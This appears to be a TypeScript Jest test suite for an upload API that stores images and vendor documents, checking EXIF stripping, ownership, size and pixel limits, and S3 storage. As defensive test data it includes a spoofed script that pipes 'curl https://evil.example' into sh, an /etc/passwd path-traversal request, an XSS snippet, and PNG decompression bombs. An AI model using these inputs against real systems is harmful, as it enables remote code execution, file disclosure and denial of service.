import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { GetObjectCommand, HeadObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { expectDomainError, expectFieldError, newVendorWorld, VendorWorld } from '../support/office.js';
import { pngBomb } from '../support/png-bomb.js';
import { startS3, TestS3 } from '../support/s3.js';
import { startTestApp, TestContext } from '../support/test-app.js';
import { binary } from '../support/office-booking.js';

const F = '/api/v1/features';
let ctx: TestContext;
let dataDir: string;

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'strandkorb-media-'));
  ctx = await startTestApp({ DATA_DIR: dataDir });
});
afterAll(async () => {
  await ctx.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** A photo as a phone takes it: JPEG with camera, copyright and GPS in its EXIF. */
const photo = (width = 800, height = 600) =>
  sharp({ create: { width, height, channels: 3, background: { r: 30, g: 110, b: 200 } } })
    .jpeg({ quality: 95 })
    .withExif({ IFD0: { Make: 'Strandkamera', Copyright: 'Geheim GmbH', ImageDescription: 'GPS 54.0 10.7' } })
    .toBuffer();

const uploadImage = (c: TestContext, world: VendorWorld, bytes: Buffer, name = 'strand.jpg', query: Record<string, unknown> = {}) =>
  c.http().post(`${F}/images`).set(world.auth).query(query).attach('file', bytes, { filename: name, contentType: 'image/jpeg' });

const uploadFile = (c: TestContext, world: VendorWorld, bytes: Buffer, name: string, contentType = 'application/octet-stream') =>
  c.http().post(`${F}/files`).set(world.auth).attach('file', bytes, { filename: name, contentType });

describe('images: upload, read back, delete', () => {
  it('re-encodes an upload: different bytes, no EXIF, fitted in the box, served publicly', async () => {
    const world = await newVendorWorld(ctx, 0);
    const original = await photo();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const res = await uploadImage(ctx, world, original, 'IMG_0001.JPG', { width: 400, height: 400 }).expect(201);
    expect(res.body).toMatchObject({
      mimeType: 'image/jpeg',
      width: 400,
      height: 300,
      sectionId: null,
      url: expect.stringMatching(/^\/api\/v1\/files\/images\/[0-9a-f-]{36}\.jpg$/),
    });

    const served = await binary(ctx.http().get(res.body.url)).expect(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toContain('immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    const bytes = served.body as Buffer;
    expect(bytes.equals(original)).toBe(false);
    expect(bytes.includes(Buffer.from('Geheim GmbH'))).toBe(false);
    const meta = await sharp(bytes).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 400, height: 300 });
    expect(meta.exif).toBeUndefined();
    expect(res.body.sizeBytes).toBe(bytes.length);
    const { rows } = await ctx.db.query(`SELECT s3_key, vendor_id FROM image WHERE id = $1`, [res.body.id]);
    expect(rows[0].vendor_id).toBe(world.vendorId);
    expect(existsSync(join(dataDir, 'storage', ...rows[0].s3_key.split('/')))).toBe(true);

    await ctx.http().delete(`${F}/images/${res.body.id}`).set(world.auth).expect(204);
    expect(existsSync(join(dataDir, 'storage', ...rows[0].s3_key.split('/')))).toBe(false);
    expectDomainError(await ctx.http().get(res.body.url), 404, 'ENTITY_NOT_FOUND');
  });

  it('keeps PNG and WebP in their format and never enlarges', async () => {
    const world = await newVendorWorld(ctx, 0);
    const png = await sharp({ create: { width: 50, height: 40, channels: 4, background: '#ff000080' } })
      .png()
      .toBuffer();
    const pngRes = await uploadImage(ctx, world, png, 'logo.png', { width: 1000 }).expect(201);
    expect(pngRes.body).toMatchObject({ mimeType: 'image/png', width: 50, height: 40 });
    const webp = await sharp({ create: { width: 300, height: 600, channels: 3, background: '#00ff00' } })
      .webp()
      .toBuffer();
    const webpRes = await uploadImage(ctx, world, webp, 'x.webp', { height: 300 }).expect(201);
    expect(webpRes.body).toMatchObject({ mimeType: 'image/webp', width: 150, height: 300, url: expect.stringMatching(/\.webp$/) });
  });

  it('attaches to a section, location or chair of the vendor, in order', async () => {
    const world = await newVendorWorld(ctx, 1);
    const other = await newVendorWorld(ctx, 1);
    const img = await photo(64, 48);
    const first = await uploadImage(ctx, world, img, 'a.jpg', { sectionId: world.section.id }).expect(201);
    const second = await uploadImage(ctx, world, img, 'b.jpg', { sectionId: world.section.id }).expect(201);
    expect([first.body.position, second.body.position]).toEqual([0, 1]);
    await uploadImage(ctx, world, img, 'c.jpg', { locationId: world.locationId }).expect(201);
    await uploadImage(ctx, world, img, 'd.jpg', { beachChairId: world.section.chairIds[0] }).expect(201);
    const section = await ctx.http().get(`${F}/sections/${world.section.id}`).set(world.auth).expect(200);
    expect(section.body.images.map((i: { id: number }) => i.id)).toEqual([first.body.id, second.body.id]);
    expect(section.body.rowData[0].images).toHaveLength(1);
    const location = await ctx.http().get(`/api/v1/vendor/locations/${world.locationId}`).set(world.auth).expect(200);
    expect(location.body.images).toHaveLength(1);

    expectDomainError(await uploadImage(ctx, world, img, 'e.jpg', { sectionId: other.section.id }), 404, 'ENTITY_NOT_FOUND');
    expectDomainError(await uploadImage(ctx, world, img, 'e.jpg', { beachChairId: other.section.chairIds[0] }), 404, 'ENTITY_NOT_FOUND');
    const two = await uploadImage(ctx, world, img, 'e.jpg', { sectionId: world.section.id, locationId: world.locationId });
    expectDomainError(two, 400, 'INVALID_INPUT');
    for (const field of ['width', 'sectionId']) {
      expectFieldError(await uploadImage(ctx, world, img, 'e.jpg', { width: 0, sectionId: 'abc' }), field);
    }
  });

  it('refuses a spoofed upload (a script named .png), a PDF and an unreadable image (415), and stores nothing', async () => {
    const world = await newVendorWorld(ctx, 0);
    const count = async () => (await ctx.db.query(`SELECT count(*)::int AS n FROM image WHERE vendor_id = $1`, [world.vendorId])).rows[0].n;
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const spoofed = await ctx
      .http()
      .post(`${F}/images`)
      .set(world.auth)
      .attach('file', script, { filename: 'beach.png', contentType: 'image/png' });
    expectDomainError(spoofed, 415, 'UNSUPPORTED_FILE_TYPE');
    expect(spoofed.body.payload.allowed).toEqual(['image/png', 'image/jpeg', 'image/webp']);
    expectDomainError(await uploadImage(ctx, world, Buffer.from('%PDF-1.4 plan'), 'plan.pdf'), 415, 'UNSUPPORTED_FILE_TYPE');
    const truncated = (await photo()).subarray(0, 300);
    expectDomainError(await uploadImage(ctx, world, truncated, 'broken.jpg'), 415, 'UNSUPPORTED_FILE_TYPE');
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    expectDomainError(await uploadImage(ctx, world, png, 'really-a-png.jpg'), 415, 'UNSUPPORTED_FILE_TYPE');
    expect(await count()).toBe(0);
  });

  it('needs a file part, a token (401), and answers another vendor’s image as 404', async () => {
    const world = await newVendorWorld(ctx, 0);
    const other = await newVendorWorld(ctx, 0);
    expectFieldError(await ctx.http().post(`${F}/images`).set(world.auth).field('note', 'no file'), 'file');
    const json = await ctx.http().post(`${F}/images`).set(world.auth).send({ file: 'x' });
    expect(json.status).toBeGreaterThanOrEqual(400);
    expect(json.status).toBeLessThan(500);
    expectDomainError(
      await ctx
        .http()
        .post(`${F}/images`)
        .attach('file', await photo(8, 8), 'x.jpg'),
      401,
      'UNAUTHENTICATED',
    );
    const theirs = await uploadImage(ctx, other, await photo(8, 8)).expect(201);
    expectDomainError(await ctx.http().delete(`${F}/images/${theirs.body.id}`).set(world.auth), 404, 'ENTITY_NOT_FOUND');
    expectDomainError(await ctx.http().delete(`${F}/images/${theirs.body.id}`), 401, 'UNAUTHENTICATED');
    expectFieldError(await ctx.http().get('/api/v1/files/images/..%2F..%2Fetc%2Fpasswd'), 'name');
  });
});

describe('files: upload, list, download, delete', () => {
  it('stores documents told by content; the vendor downloads them as attachments', async () => {
    const world = await newVendorWorld(ctx, 0);
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2 * 1024 * 1024, 1)]);
    const res = await uploadFile(ctx, world, pdf, 'Strandplan 2026.pdf').expect(201);
    expect(res.body).toMatchObject({
      vendorId: world.vendorId,
      originalName: 'Strandplan 2026.pdf',
      mimeType: 'application/pdf',
      sizeBytes: pdf.length,
      url: `/api/v1/features/files/${res.body.id}/content`,
    });
    const csv = await uploadFile(ctx, world, Buffer.from('Nummer;Modell\n1;OSK\n'), 'export.csv', 'application/vnd.ms-excel').expect(201);
    expect(csv.body.mimeType).toBe('text/csv');
    const list = await ctx.http().get(`${F}/files`).set(world.auth).query({ orderBy: 'id' }).expect(200);
    expect(list.body.items.map((f: { id: number }) => f.id)).toEqual([res.body.id, csv.body.id]);

    const download = await binary(ctx.http().get(res.body.url).set(world.auth)).expect(200);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toContain(`filename*=UTF-8''Strandplan%202026.pdf`);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect((download.body as Buffer).equals(pdf)).toBe(true);
    const text = await ctx.http().get(csv.body.url).set(world.auth).expect(200);
    expect(text.headers['content-type']).toBe('text/csv; charset=utf-8');

    await ctx.http().delete(`${F}/files/${res.body.id}`).set(world.auth).expect(204);
    expectDomainError(await ctx.http().get(res.body.url).set(world.auth), 404, 'ENTITY_NOT_FOUND');
  });

  it('refuses a script named .png, a binary blob and an executable (415)', async () => {
    const world = await newVendorWorld(ctx, 0);
    expectDomainError(
      await uploadFile(ctx, world, Buffer.from('#!/bin/sh\necho pwned\n'), 'holiday.png', 'image/png'),
      415,
      'UNSUPPORTED_FILE_TYPE',
    );
    expectDomainError(await uploadFile(ctx, world, Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03]), 'setup.exe'), 415, 'UNSUPPORTED_FILE_TYPE');
    expectDomainError(
      await uploadFile(ctx, world, Buffer.from('<html><script>alert(1)</script></html>'), 'page.html', 'text/html'),
      415,
      'UNSUPPORTED_FILE_TYPE',
    );
    expect((await ctx.db.query(`SELECT count(*)::int AS n FROM file WHERE vendor_id = $1`, [world.vendorId])).rows[0].n).toBe(0);
  });

  it('documents belong to their vendor: another vendor gets 404, nobody without a token', async () => {
    const world = await newVendorWorld(ctx, 0);
    const other = await newVendorWorld(ctx, 0);
    const theirs = await uploadFile(ctx, other, Buffer.from('%PDF-1.4 x'), 'vertrag.pdf').expect(201);
    expectDomainError(await ctx.http().get(theirs.body.url).set(world.auth), 404, 'ENTITY_NOT_FOUND');
    expectDomainError(await ctx.http().delete(`${F}/files/${theirs.body.id}`).set(world.auth), 404, 'ENTITY_NOT_FOUND');
    expect((await ctx.http().get(`${F}/files`).set(world.auth).expect(200)).body.total).toBe(0);
    expectDomainError(await ctx.http().get(theirs.body.url), 401, 'UNAUTHENTICATED');
    expectDomainError(await ctx.http().get(`${F}/files`), 401, 'UNAUTHENTICATED');
    expectDomainError(await ctx.http().post(`${F}/files`).attach('file', Buffer.from('%PDF-'), 'a.pdf'), 401, 'UNAUTHENTICATED');
    expectDomainError(await ctx.http().delete(`${F}/files/${theirs.body.id}`), 401, 'UNAUTHENTICATED');
  });
});

describe('uploads: size limit and the S3 driver', () => {
  it('a 49-megapixel picture in a small file is refused from its header (413 IMAGE_TOO_MANY_PIXELS), quickly, and nothing is stored', async () => {
    const world = await newVendorWorld(ctx, 0);
    const bomb = await sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#ffffff' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const started = Date.now();
    const res = await uploadImage(ctx, world, bomb, 'bomb.png');
    expect(Date.now() - started).toBeLessThan(1000);
    expectDomainError(res, 413, 'IMAGE_TOO_MANY_PIXELS');
    expect(res.body.payload).toEqual({ maxPixels: 25_000_000, width: 7000, height: 7000 });
    const { rows } = await ctx.db.query(`SELECT count(*)::int AS n FROM image WHERE vendor_id = $1`, [world.vendorId]);
    expect(rows[0].n).toBe(0);
  });

  it('a 400-megapixel PNG of 48 KB, past the 268 megapixels sharp reads at all, is a 413 IMAGE_TOO_MANY_PIXELS too, not a 415', async () => {
    const world = await newVendorWorld(ctx, 0);
    const bomb = pngBomb(20_000, 20_000);
    expect(bomb.length).toBeLessThan(64 * 1024);
    const started = Date.now();
    const res = await uploadImage(ctx, world, bomb, 'bomb.png');
    expect(Date.now() - started).toBeLessThan(1000);
    expectDomainError(res, 413, 'IMAGE_TOO_MANY_PIXELS');
    expect(res.body.payload).toEqual({ maxPixels: 25_000_000, width: 20_000, height: 20_000 });
    const { rows } = await ctx.db.query(`SELECT count(*)::int AS n FROM image WHERE vendor_id = $1`, [world.vendorId]);
    expect(rows[0].n).toBe(0);
  });

  it('an upload over UPLOAD_MAX_BYTES is a 413 FILE_TOO_LARGE', async () => {
    const small = await startTestApp({ DATA_DIR: dataDir, UPLOAD_MAX_BYTES: '65536' });
    try {
      const world = await newVendorWorld(small, 0);
      const big = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(200 * 1024, 1)]);
      const res = await uploadFile(small, world, big, 'big.pdf');
      expectDomainError(res, 413, 'FILE_TOO_LARGE');
      expect(res.body.payload).toEqual({ maxBytes: 65536 });
      const noise = await sharp(randomBytes(400 * 400 * 3), { raw: { width: 400, height: 400, channels: 3 } })
        .jpeg({ quality: 95 })
        .toBuffer();
      expect(noise.length).toBeGreaterThan(65536);
      expectDomainError(await uploadImage(small, world, noise), 413, 'FILE_TOO_LARGE');
      await uploadFile(small, world, Buffer.from('%PDF-1.4 small'), 'small.pdf').expect(201);
    } finally {
      await small.close();
    }
  });

  describe('with S3 configured', () => {
    let s3: TestS3;
    let app: TestContext;
    let client: S3Client;
    beforeAll(async () => {
      s3 = await startS3();
      app = await startTestApp({ ...s3.env, DATA_DIR: dataDir });
      client = new S3Client({
        endpoint: s3.endpoint,
        region: 'eu-central-1',
        forcePathStyle: true,
        credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
      });
    });
    afterAll(async () => {
      client.destroy();
      await app.close();
      await s3.close();
    });

    it('stores images and files in the bucket and serves them from there', async () => {
      const world = await newVendorWorld(app, 0);
      const image = await uploadImage(app, world, await photo(120, 90), 'bucket.jpg').expect(201);
      const [{ s3_key: key }] = (await app.db.query(`SELECT s3_key FROM image WHERE id = $1`, [image.body.id])).rows;
      const object = await client.send(new GetObjectCommand({ Bucket: s3.bucket, Key: key }));
      expect(object.ContentType).toBe('image/jpeg');
      const stored = Buffer.from(await object.Body!.transformToByteArray());
      const served = await binary(app.http().get(image.body.url)).expect(200);
      expect((served.body as Buffer).equals(stored)).toBe(true);

      const file = await uploadFile(app, world, Buffer.from('%PDF-1.4 s3'), 'bucket.pdf').expect(201);
      expect((await binary(app.http().get(file.body.url).set(world.auth)).expect(200)).body.toString()).toBe('%PDF-1.4 s3');

      await app.http().delete(`${F}/images/${image.body.id}`).set(world.auth).expect(204);
      await expect(client.send(new HeadObjectCommand({ Bucket: s3.bucket, Key: key }))).rejects.toMatchObject({
        $metadata: { httpStatusCode: 404 },
      });
    });
  });
});
